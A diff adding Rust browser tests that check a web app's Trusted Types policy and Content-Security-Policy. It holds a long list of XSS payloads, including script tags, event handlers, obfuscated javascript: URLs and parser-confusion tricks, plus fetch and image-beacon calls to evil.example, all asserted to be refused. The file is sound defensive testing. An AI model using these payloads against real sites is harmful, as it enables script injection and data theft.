@@ -1,0 +1,162 @@
+//! What may become markup, run, or be asked for. The names of a corpus and the words of an address are text, whatever
+//! they look like.
+
+use serde_json::{Value, json};
+
+use crate::Stage;
+
+crate::tests![
+    our_own_markup_passes,
+    hostile_markup_is_refused,
+    nothing_runs_or_leaves,
+    words_in_the_address_stay_words,
+    the_sources_are_named_without_scripts,
+];
+
+/// What the policy makes of markup: empty where it refuses.
+const CREATE: &str = "return a.map((markup) => trustedTypes.defaultPolicy.createHTML(markup).toString())";
+
+fn our_own_markup_passes(stage: &Stage) {
+    let page = stage.open("");
+    let fine = json!([
+        "plain words & signs: 2 > 1",
+        "<p>text</p>",
+        "<a class=\"brand\" href=\"#/\"><svg aria-hidden=\"true\"><use href=\"#logo\"></use></svg></a>",
+        "<a href=\"https://example.org/page?x=1&amp;y=2\" rel=\"noreferrer\">there</a>",
+        "<ul><li data-x=\"1\">one</li><!><li>two</li></ul>",
+        "<input type=\"search\" autocomplete=\"off\" disabled>",
+        "<rect class=\"all\" x=\"8\" width=\"24\" fill=\"url(#hatch)\"></rect>",
+    ]);
+    assert_eq!(page.browser.run(CREATE, fine.clone()), fine);
+    page.sound();
+}
+
+fn hostile_markup_is_refused(stage: &Stage) {
+    let page = stage.open("");
+    let hostile = json!([
+        "<script>alert(1)</script>",
+        "<SCRIPT src=//evil.example></SCRIPT>",
+        "<svg><script>alert(1)</script></svg>",
+        "<img src=\"x\" onerror=\"alert(1)\">",
+        "<img src=x onerror=alert(1)>",
+        "<p onclick=\"alert(1)\">x</p>",
+        "<p ONCLICK=\"alert(1)\">x</p>",
+        "<p/onclick=\"alert(1)\">x</p>",
+        "<p\nonclick=\"alert(1)\">x</p>",
+        "<svg onload=\"alert(1)\"></svg>",
+        "<details open ontoggle=\"alert(1)\"></details>",
+        "<input autofocus onfocus=\"alert(1)\">",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=\"x\"></object>",
+        "<embed src=\"x\">",
+        "<base href=\"https://evil.example/\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
+        "<style>*{background:url(https://evil.example)}</style>",
+        "<p style=\"background:url(https://evil.example)\">x</p>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+        "<a href=\" javascript:alert(1)\">x</a>",
+        "<a href=\"java&#115;cript:alert(1)\">x</a>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+        "<a href=\"vbscript:x\">x</a>",
+        "<a href=\"//evil.example\">x</a>",
+        "<a href=\"\\\\evil.example\">x</a>",
+        "<a href=\"http://evil.example\">x</a>",
+        "<a href=\"https:/evil.example\">x</a>",
+        "<a href=\"blob:x\">x</a>",
+        "<a href='#/'>x</a>",
+        "<a href=#/>x</a>",
+        "<a xlink:href=\"javascript:alert(1)\">x</a>",
+        "<form action=\"https://evil.example\"><button>x</button></form>",
+        "<button formaction=\"javascript:alert(1)\">x</button>",
+        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+        "<svg><foreignObject><p>x</p></foreignObject></svg>",
+        "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"></animate></svg>",
+        "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"></set></svg>",
+        "<rect fill=\"url(https://evil.example#x)\"></rect>",
+        "<video src=\"x\" onerror=\"alert(1)\"></video>",
+        "<template><script>alert(1)</script></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<!-- --!><img src=x onerror=alert(1)>",
+        "<![CDATA[<img src=x onerror=alert(1)>]]>",
+        "<?xml version=\"1.0\"?>",
+        "<p title=\"a\"onclick=\"alert(1)\">x</p>",
+        "<p title=\"<img src=x onerror=alert(1)>\">x</p>",
+        "<x-thing>x</x-thing>",
+        "<p",
+        "<",
+    ]);
+    let made = page.browser.run(CREATE, hostile.clone());
+    let texts = |value: &Value| value.as_array().cloned().unwrap_or_default();
+    let passed: Vec<Value> = texts(&hostile)
+        .into_iter()
+        .zip(texts(&made))
+        .filter(|(_, made)| made != "")
+        .map(|(markup, _)| markup)
+        .collect();
+    assert_eq!(passed, [Value::Null; 0]);
+    let refused = page.browser.run("return window.__crosscheckRefused", Value::Null);
+    assert_eq!(refused, json!(texts(&hostile).len()), "and each was counted");
+}
+
+/// Whether the bundle has the policy that `cargo xtask build` writes. Trunk's own builds have none.
+fn released(stage: &Stage) -> bool {
+    let released = stage.server.file("index.html").contains("Content-Security-Policy");
+    if !released {
+        println!("skipped: only `cargo xtask build` writes this");
+    }
+    released
+}
+
+fn nothing_runs_or_leaves(stage: &Stage) {
+    if !released(stage) {
+        return;
+    }
+    let page = stage.open("");
+    let tried = page.strings(
+        "const tries = {
+            eval: () => (0, eval)('1'),
+            function: () => new Function('return 1')(),
+            script: () => { document.createElement('script').src = 'https://evil.example/x.js'; },
+            text: () => { document.createElement('script').text = 'alert(1)'; },
+            write: () => document.write('<script>alert(1)</script>'),
+            fetch: () => fetch('https://evil.example/'),
+            beacon: () => new Promise((done, fail) => { const image = new Image(); image.onload = done; image.onerror = fail; image.src = 'https://evil.example/x.png'; }),
+         };
+         const worked = [];
+         for (const [name, work] of Object.entries(tries)) { try { await work(); worked.push(name); } catch {} }
+         return worked",
+        Value::Null,
+    );
+    // What is written is refused by being empty, not by an exception.
+    assert_eq!(tried, ["write"]);
+    assert!(page.complaints().len() >= 4, "each refusal is seen by the tests");
+    assert!(!page.heading().is_empty());
+}
+
+fn words_in_the_address_stay_words(stage: &Stage) {
+    let words = "<img src=x onerror=\"window.ran=1\">";
+    let page = stage.open("#/explore");
+    page.search(words);
+    assert!(page.text().contains("<img src=x onerror="), "{}", page.text());
+    assert_eq!(page.browser.run("return window.ran ?? null", Value::Null), Value::Null);
+    page.sound();
+}
+
+fn the_sources_are_named_without_scripts(stage: &Stage) {
+    if !released(stage) {
+        return;
+    }
+    let html = stage.server.file("index.html");
+    let (_, inside) = html
+        .split_once("<noscript>")
+        .expect("a page for browsers without scripts");
+    for outlet in ["The Baghdad Post", "Business Insider", "Track Persia"] {
+        assert!(inside.contains(outlet), "{outlet}: {inside}");
+    }
+    assert!(inside.contains("<a href=\"https://"), "{inside}");
+}
